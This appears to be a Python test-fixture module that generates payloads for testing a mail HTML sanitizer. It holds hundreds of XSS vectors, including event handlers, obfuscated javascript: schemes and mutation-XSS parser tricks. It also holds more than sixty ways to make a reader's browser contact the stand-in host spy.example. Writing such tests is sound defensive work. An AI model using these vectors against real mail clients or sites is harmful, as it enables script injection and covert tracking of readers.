# ruff: noqa: E501
"""HTML written to run, to fetch, or to look like ours: payloads for the tests of mail."""

from itertools import product

MARK = "window.top.__pwn=1;window.__pwn=1"
SPY = "http://spy.example"
_HANDLERS = (
    "onerror onload onclick onfocus onmouseover onanimationstart ontoggle onbegin onpageshow "
    "onpointerenter onwheel onscroll onbeforeprint oncut onauxclick oncontentvisibilityautostatechange"
).split()
_TAGS = (
    "img src=x|svg|body|details open|input autofocus|video src=x|audio src=x|marquee|"
    "iframe|object|embed src=x|select autofocus|textarea autofocus|style|a href=x|math|"
    "p style=animation:x 1s"
).split("|")
_SCHEMES = (
    "javascript:{m}|JaVaScRiPt:{m}|java\tscript:{m}|java\nscript:{m}|\x01javascript:{m}|"
    " javascript:{m}|javascript&colon;{m}|&#106;avascript:{m}|&#x6A;avascript:{m}|"
    "data:text/html,<script>{m}</script>|data:text/html;base64,PHNjcmlwdD4=|vbscript:{m}|"
    "jar:javascript:{m}|feed:javascript:{m}|view-source:javascript:{m}|blob:{m}|"
    "javascript://x%0a{m}|livescript:{m}|mocha:{m}|\u200bjavascript:{m}"
).split("|")
_WAYS = (
    '<a href="{u}">x</a>|<form action="{u}"><button>x</button></form>|<iframe src="{u}"></iframe>|'
    '<img src="{u}">|<object data="{u}"></object>|<embed src="{u}">|<base href="{u}">|'
    '<meta http-equiv=refresh content="0;url={u}">|<svg><a xlink:href="{u}"><text>x</text></a></svg>|'
    '<math><mi xlink:href="{u}">x</mi></math>|<button formaction="{u}">x</button>|'
    '<link rel=stylesheet href="{u}">|<input type=image src="{u}">|<area href="{u}">|'
    '<video poster="{u}">|<svg><use href="{u}"></svg>|<table background="{u}"><td>x|'
    '<p style="background:url({u})">x'
).split("|")
_WHOLE = (
    "<script>{m}</script>|<scr<script>ipt>{m}</script>|<script/src=data:,{m}></script>",
    "<svg><script>{m}</script></svg>",
    "<svg><style><img src=x onerror={m}></style></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={m}></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={m}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={m}>'>",
    "<template><script>{m}</script></template>",
    "<textarea><script>{m}</script></textarea><img src=x onerror={m}>",
    "<title><img src=x onerror={m}></title>|<!--><img src=x onerror={m}>-->",
    "<![CDATA[<img src=x onerror={m}>]]>|<?xml version='1.0'?><img src=x onerror={m}>",
    "<img src='x' title='\"><img src=x onerror={m}>'>",
    "<p style='width:expression({m})'>x|<p style='-moz-binding:url(//spy.example/x)'>x",
    "<svg><animate onbegin={m} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:{m}><a><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;{m}&lt;/script&gt;'></foreignObject></svg>",
    "<iframe srcdoc='<script>{m}</script>'></iframe>",
    "<b><style></b><img src=x onerror={m}></style>",
    "<select><style></select><img src=x onerror={m}></style></select>",
    "<a id=x name=cookie>x</a><form id=document><input name=cookie></form>",
    "<div class=toast id=toasts data-hx-get=/x hx-get=/x hx-trigger=load>x</div>",
)
_FETCHES = (
    '<img src="{s}/1">|<img src="//spy.example/2">|<img src=" {s}/3">|<img srcset="{s}/4 1x">|'
    '<img lowsrc="{s}/5">|<img dynsrc="{s}/6">|<picture><source srcset="{s}/7"><img></picture>|'
    '<video src="{s}/8"></video>|<video poster="{s}/9"></video>|<audio src="{s}/10"></audio>|'
    '<source src="{s}/11">|<track src="{s}/12">|<input type=image src="{s}/13">|'
    '<object data="{s}/14"></object>|<embed src="{s}/15">|<iframe src="{s}/16"></iframe>|'
    '<frame src="{s}/17">|<link rel=stylesheet href="{s}/18">|<link rel=prefetch href="{s}/19">|'
    '<link rel=preload as=image href="{s}/20">|<link rel=dns-prefetch href="{s}">|'
    '<link rel=icon href="{s}/21">|<style>@import url({s}/22)</style>|<style>@import "{s}/23"</style>|'
    "<style>p{{background:url({s}/24)}}</style>|"
    "<style>@font-face{{src:url({s}/25)}}</style>|"
    "<p style='background:url({s}/26)'>x|<p style='background-image:url(\"{s}/27\")'>x|"
    "<p style='background:u\\72l({s}/28)'>x|<p style='background:\\75rl({s}/29)'>x|"
    "<p style='list-style:url({s}/30)'>x|<p style='list-style-image:url({s}/31)'>x|"
    "<p style='cursor:url({s}/32),auto'>x|<p style='content:url({s}/33)'>x|"
    "<p style='border-image:url({s}/34) 1'>x|<p style='filter:url({s}/35)'>x|"
    "<p style='mask:url({s}/36)'>x|<p style='background:image-set(\"{s}/37\" 1x)'>x|"
    "<p style='background:cross-fade(url({s}/38),red)'>x|"
    "<p style='color:red;background:url({s}/39'>x|"
    "<p style='--a:url({s}/40);background:var(--a)'>x|<p style='background:URL({s}/41)'>x|"
    "<p style='background:/**/url({s}/42)'>x|<body background='{s}/43'>|"
    "<table background='{s}/44'><td>x|<td background='{s}/45'>x|"
    "<svg><image href='{s}/46'/></svg>|<svg><image xlink:href='{s}/47'/></svg>|"
    "<svg><use href='{s}/48#x'/></svg>|<svg><style>@import url({s}/49)</style></svg>|"
    "<svg><feImage href='{s}/50'/></svg>|"
    "<svg><animate attributeName=href by='{s}/51' dur=1s /></svg>|"
    "<svg fill='url({s}/52#x)'/>|<math href='{s}/53'>x</math>|"
    "<meta http-equiv=refresh content='0;url={s}/54'>|<base href='{s}/'><img src='55'>|"
    "<a href='{s}' ping='{s}/56'>x</a>|<bgsound src='{s}/57'>|"
    "<applet code='{s}/58'></applet>|<layer src='{s}/59'></layer>|<xml src='{s}/60'></xml>|"
    "<isindex action='{s}/61'>|<img src='remote:{s}/62'>|<portal src='{s}/63'></portal>|"
    "<script src='{s}/64'></script>|<img src='&#104;ttp://spy.example/65'>|"
    "<blockquote cite='{s}/66'>x"
).split("|")


def running() -> list[str]:
    """Return more than 300 ways to run something."""
    found = [f"<{tag} {handler}='{MARK}'>x" for tag, handler in product(_TAGS, _HANDLERS[:9])]
    found += [f"<img src=x {handler}={MARK}>" for handler in _HANDLERS]
    found += [
        way.format(u=scheme.format(m=MARK)) for way, scheme in product(_WAYS[:9], _SCHEMES)
    ]
    found += [way.format(u=f"javascript:{MARK}") for way in _WAYS]
    return found + [whole.format(m=MARK) for whole in _WHOLE]


def fetching() -> list[str]:
    """Return more than 60 ways to make a reader's browser ask somebody's server."""
    return [way.format(s=SPY) for way in _FETCHES]
